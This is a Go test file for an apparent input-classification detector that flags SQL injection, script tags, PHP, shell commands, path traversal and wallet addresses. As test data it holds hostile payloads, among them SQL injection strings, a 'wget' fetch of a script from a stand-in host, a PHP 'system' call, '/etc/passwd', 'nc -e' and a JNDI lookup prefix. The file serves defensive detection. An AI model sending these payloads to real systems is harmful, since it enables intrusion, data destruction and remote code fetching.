package fact

import (
	"bytes"
	"math/rand/v2"
	"strings"
	"testing"
)

// TestCodeInLongTexts: of a page, beginning and end are searched for inputs, and all
// of it for scripts.
func TestCodeInLongTexts(t *testing.T) {
	page := strings.Repeat("the quick brown fox; ", maxInput/8)
	for text, want := range map[string]class{
		"1' UNION SELECT 1, 2-- " + page:         sqlCode,
		page + " 1' OR '1'='1":                   sqlCode,
		page + "<script>x</script>" + page:       scriptCode,
		page + "<?php system('id')" + page:       phpCode,
		page + "wget http://x.example/a.sh":      shellCode,
		page + ` "s:13:"administrator";"` + page: rightsText,
		"/etc/passwd" + page:                     pathText,
		page:                                     0,
	} {
		if got := codeIn([]byte(text)); got != want {
			t.Errorf("%.40q ... %q: %b, want %b", text, text[len(text)-20:], got, want)
		}
	}
}

// TestPhrases: each text that is looked for is found, in either case.
func TestPhrases(t *testing.T) {
	for _, s := range sought {
		for _, p := range s.texts {
			for _, text := range []string{"x " + p + "x", "x " + strings.ToUpper(p) + "x", "x" + p} {
				if s.look == nil && s.class != sqlCode && codeIn([]byte(text)) == 0 {
					t.Errorf("%q is nothing", text)
				}
			}
		}
	}
}

// TestWallets: an address is found at any place.
func TestWallets(t *testing.T) {
	const address = "1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2"
	for n := range 100 {
		text := strings.Repeat("ab ", n) + strings.Repeat("-", n%7) + address + strings.Repeat(" abc", n%5)
		if wallet([]byte(text))&walletText == 0 {
			t.Errorf("no address in %q", text)
		}
	}
	if got := wallet([]byte(strings.Repeat("x", 100) + address)); got != 0 {
		t.Errorf("a longer word is an address: %b", got)
	}
}

// TestSearchesAsDefined: the looks that are saved would have found nothing.
func TestSearchesAsDefined(t *testing.T) {
	pieces := strings.Fields(`administrator s:13:"administrator" s:13:\"administrator\" s:13:"Administrator" dministrator adm " \" < <? <?php <img onerror= <SCRIPT
		../ .. /etc/ passwd win. ini \\ ..\..\ cmd.exe | bash { {{ {{7*7}} ${jndi: xp_ cmdshell wget - http:/ nc -e ' 1 or Union a aa admin`)
	r := rand.New(rand.NewPCG(5, 1))
	for range 20000 {
		var text []byte
		for range r.IntN(12) {
			text = append(text, pieces[r.IntN(len(pieces))]...)
			if r.IntN(3) == 0 {
				text = append(text, ' ')
			}
		}
		if got, want := administrates(text), bytes.Contains(text, []byte(`s:13:"administrator"`)) || bytes.Contains(text, []byte(`s:13:\"administrator\"`)); got != want {
			t.Fatalf("%q administrates: %v", text, got)
		}
		// Each phrase at each place.
		var want class
		for i := range text {
			for _, s := range sought {
				for _, p := range s.texts {
					if s.class&(pathText|shellCode|templateCode) != 0 && hasPrefixFold(text[i:], p) && (s.look == nil || s.look(text, i, i+len(p))) {
						want |= s.class
					}
				}
			}
		}
		const looked = pathText | shellCode | templateCode
		if got := inputIn(text) & looked; got != want {
			t.Fatalf("phrases of %q: %b, want %b", text, got, want)
		}
	}
}

// TestInputs: what was meant to leave a literal is distinguished from texts with
// the same words.
func TestInputs(t *testing.T) {
	for text, want := range map[string]class{
		"lamp AND 1742=7407":                       sqlCode,
		"x) or (8)=3":                              sqlCode,
		"5 IN (SELECT (CHAR(113)+CHAR(122)))":      sqlCode,
		"( BINARY ( SELECT 'a' * 'b') )  --":       sqlCode,
		"(select concat(a, b))":                    sqlCode,
		"; DROP table Users --":                    sqlCode,
		"1; BEGIN DECLARE @xy varchar(8000)":       sqlCode,
		"and CONNECTION_ID()=CONNECTION_ID()":      sqlCode,
		"255/*!union*/select 1,2,3":                sqlCode,
		"lamp and 1742, or 7407 = many":            0,
		"a song (select one) and a version":        0,
		"a union (the selected) of users; drop by": 0,
		"/*! a version */ of user(s)":              0,
		"we update; you begin":                     0,
	} {
		if got := codeIn([]byte(text)); got != want {
			t.Errorf("%q: %b, want %b", text, got, want)
		}
	}
}

// TestEndsAtAny compares with the search for all of a text.
func TestEndsAtAny(t *testing.T) {
	rng := rand.New(rand.NewPCG(1, 2))
	found := 0
	for range 20_000 {
		text := make([]byte, rng.IntN(12))
		for i := range text {
			text[i] = "onLOad=d=o"[rng.IntN(10)]
		}
		if rng.IntN(2) == 0 {
			text = append(text, "oNload="...)
		}
		got, want := endsAtAny(text, '=', "onload", "o"), containsFold(text, "onload=") || containsFold(text, "o=")
		if got != want {
			t.Fatalf("%q: got %v", text, got)
		}
		if got {
			found++
		}
	}
	if found == 0 || found == 20_000 {
		t.Errorf("found %d times", found)
	}
}
